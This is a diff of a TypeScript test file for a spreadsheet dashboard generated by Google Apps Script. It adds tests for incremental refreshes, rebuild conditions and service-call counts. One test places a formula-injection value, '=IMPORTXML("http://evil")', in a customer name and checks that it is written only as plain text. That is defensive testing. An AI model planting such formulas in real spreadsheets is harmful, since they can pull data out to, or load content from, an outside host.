@@ -2,7 +2,11 @@
 // number formats, row links, native charts and service calls, for the demo ledger and generated ones.
 /// <reference types="google-apps-script" />
 import { beforeAll, describe, expect, it } from 'vitest';
-import { MAX_LIST_ROWS, refreshDashboardTab } from '../../apps-script/src/dashboard-tab.js';
+import {
+  type DashboardState,
+  MAX_LIST_ROWS,
+  refreshDashboardTab,
+} from '../../apps-script/src/dashboard-tab.js';
 import { syntheticLedger } from '../../bench/ledger-generator.js';
 import { readLedger } from '../../cli/read-ledger.js';
 import { buildBook } from '../../core/book.js';
@@ -28,7 +32,17 @@ beforeAll(async () => {
 type App = GoogleAppsScript.Spreadsheet.SpreadsheetApp;
 
 /** A fake spreadsheet holding the ledger's tabs (as rows when given), and the Dashboard refreshed once. */
-function refresh(ledger: Ledger, options: { locale?: string; rows?: LedgerRows; gas?: FakeGas } = {}) {
+function refresh(
+  ledger: Ledger,
+  options: {
+    locale?: string;
+    rows?: LedgerRows;
+    gas?: FakeGas;
+    previous?: DashboardState;
+    asOf?: string;
+    now?: number;
+  } = {},
+) {
   const gas = options.gas ?? new FakeGas(options.locale ? { locale: options.locale } : {});
   if (!options.gas)
     for (const tab of TAB_NAMES) gas.addSheet(tab, (options.rows?.[tab] ?? [[tab]]) as unknown[][]);
@@ -36,14 +50,51 @@ function refresh(ledger: Ledger, options: { locale?: string; rows?: LedgerRows; 
   const ss = app.getActive();
   const sheets = new Map(TAB_NAMES.map((t) => [t as string, ss.getSheetByName(t)!]));
   gas.resetCalls();
-  const data = refreshDashboardTab(ss, app, ledger, {
-    asOf: AS_OF,
-    now: NOW,
+  const result = refreshDashboardTab(ss, ledger, {
+    asOf: options.asOf ?? AS_OF,
+    now: options.now ?? NOW,
     officeTimeZone: 'America/New_York',
     contactPreset: 'federal',
     sheets,
+    ...(options.previous ? { previous: options.previous } : {}),
   });
-  return { gas, data, sheet: gas.sheet('Dashboard')! };
+  return {
+    gas,
+    data: result.dashboard,
+    state: result.state,
+    rebuilt: result.rebuilt,
+    sheet: gas.sheet('Dashboard')!,
+  };
+}
+
+/** Everything a reader of the tab sees: values, formats, bold, backgrounds, links, charts. */
+function picture(sheet: FakeSheet) {
+  const sorted = <V>(m: Map<string, V>) => [...m].sort(([a], [b]) => a.localeCompare(b));
+  return {
+    values: sheet.rows
+      .slice(0, sheet.lastRow())
+      .map((r) => r.map((v) => (v instanceof Date ? v.toISOString() : v))),
+    formats: sorted(sheet.cellFormats),
+    weights: sorted(sheet.fontWeights),
+    backgrounds: sorted(sheet.backgrounds),
+    links: sorted(sheet.links),
+    charts: sheet.charts,
+  };
+}
+
+/** The demo ledger with one more payment on its first open invoice (values change, layout does not). */
+function withPayment(ledger: Ledger): Ledger {
+  const next = structuredClone(ledger);
+  const inv = next.invoices.find((i) => i.currency === 'USD' && i.amountMinor > 10_000)!;
+  next.payments.push({
+    ...next.payments.find((p) => p.currency === 'USD')!,
+    paymentId: 'PAY-TEST-1',
+    customerId: inv.customerId,
+    date: AS_OF,
+    amountMinor: 5_000,
+    appliesTo: [],
+  });
+  return next;
 }
 
 /** 1-based row of the first cell in column A equal to `text`, searching from `from`. */
@@ -148,22 +199,24 @@ describe('apps-script/dashboard-tab', () => {
       const ledger = structuredClone(demo);
       const task = refresh(demo).data.tasksToday[0]!;
       ledger.customers.find((c) => c.customerId === task.customerId)!.name = '=IMPORTXML("http://evil")';
-      const { sheet } = refresh(ledger);
-      expect(sheet.formulaInjections).toEqual([]);
+      const { sheet } = refresh(ledger, { rows: demoRows });
+      // The only formulas are the tab's own row links, in the link column.
+      const linkColumn = Math.max(...sheet.rows.map((r) => r.length));
+      expect(sheet.formulaInjections.length).toBeGreaterThan(0);
+      for (const f of sheet.formulaInjections) {
+        expect(f.column).toBe(linkColumn);
+        expect(f.value).toMatch(/^=HYPERLINK\("#gid=\d+&range=A\d+","[A-Za-z]+ row \d+"\)$/);
+      }
+      expect(sheet.rows.some((r) => r.includes('=IMPORTXML("http://evil")'))).toBe(true);
     });
 
-    it('writes the block with one call per aspect and replaces its three charts on the next refresh', () => {
+    it('builds the block with one call per aspect, and rebuilds it (three charts replaced) with no state kept', () => {
       // Act
       const first = refresh(demo, { rows: demoRows });
       const again = refresh(demo, { gas: first.gas });
       // Assess
-      for (const m of [
-        'setValues',
-        'setNumberFormats',
-        'setFontWeights',
-        'setBackgrounds',
-        'setRichTextValues',
-      ])
+      expect(again.rebuilt).toBe(true);
+      for (const m of ['setValues', 'setNumberFormats', 'setFontWeights', 'setBackgrounds'])
         expect(
           again.gas.calls.filter((c) => c.method === m && c.range?.sheet === 'Dashboard'),
           m,
@@ -171,6 +224,59 @@ describe('apps-script/dashboard-tab', () => {
       expect(again.gas.count('Sheet.clear')).toBe(1);
       expect(again.gas.count('Sheet.removeChart')).toBe(3);
       expect(again.sheet.charts).toHaveLength(3);
+    });
+
+    it('rewrites only the values in one setValues when the layout key is unchanged, and the tab reads as rebuilt', () => {
+      // Prepare: yesterday's refresh kept its state; today a payment came in.
+      const first = refresh(demo, { rows: demoRows });
+      const today = withPayment(demo);
+      // Act
+      const steady = refresh(today, { gas: first.gas, previous: first.state });
+      // Assess
+      expect(steady.rebuilt).toBe(false);
+      expect(steady.gas.calls.map((c) => `${c.service}.${c.method}`)).toEqual([
+        'Spreadsheet.getSpreadsheetTimeZone',
+        'Spreadsheet.getSpreadsheetLocale',
+        'Spreadsheet.getSheetByName',
+        'Sheet.getRange',
+        'Range.setValues',
+      ]);
+      const fresh = refresh(today, { rows: demoRows });
+      expect(fresh.data.currencies).not.toEqual(first.data.currencies);
+      expect(picture(steady.sheet)).toEqual(picture(fresh.sheet));
+    });
+
+    it('rebuilds when the layout changes: a list outgrows its rows, the locale changes, the tab was deleted', () => {
+      const first = refresh(demo, { rows: demoRows });
+      // A dispute flag on many customers makes "Disputes open" outgrow its reserved rows.
+      const disputes = structuredClone(demo);
+      for (const c of disputes.customers.slice(0, 12)) c.flags = [...c.flags, 'dispute'];
+      const grown = refresh(disputes, { gas: first.gas, previous: first.state });
+      expect(grown.rebuilt).toBe(true);
+      expect(picture(grown.sheet)).toEqual(picture(refresh(disputes, { rows: demoRows }).sheet));
+
+      const german = new FakeGas({ locale: 'de_DE' });
+      for (const tab of TAB_NAMES) german.addSheet(tab, (demoRows[tab] ?? [[tab]]) as unknown[][]);
+      const de = refresh(demo, { gas: german, previous: first.state });
+      expect(de.rebuilt).toBe(true);
+      expect(de.sheet.cellFormats.get('1:3')).toBe('d mmm yyyy');
+
+      const gone = refresh(demo, { rows: demoRows, previous: first.state });
+      expect(gone.rebuilt).toBe(true);
+    });
+
+    it('writes at most 5 service calls for 50,000 invoices once the layout is kept, as for 500', () => {
+      const run = (customers: number) => {
+        const ledger = syntheticLedger(customers, 10, AS_OF);
+        const built = refresh(ledger);
+        const steady = refresh(ledger, { gas: built.gas, previous: built.state });
+        return { built: built.gas.calls.length, steady: steady.gas.calls.length, rebuilt: steady.rebuilt };
+      };
+      const small = run(50);
+      const large = run(5000);
+      expect([small.rebuilt, large.rebuilt]).toEqual([false, false]);
+      expect(large.steady).toBeLessThanOrEqual(5);
+      expect(large.steady).toBe(small.steady);
     });
 
     it('makes the same calls for 20,000 invoices as for 2,000, and shows at most MAX_LIST_ROWS of a list', () => {
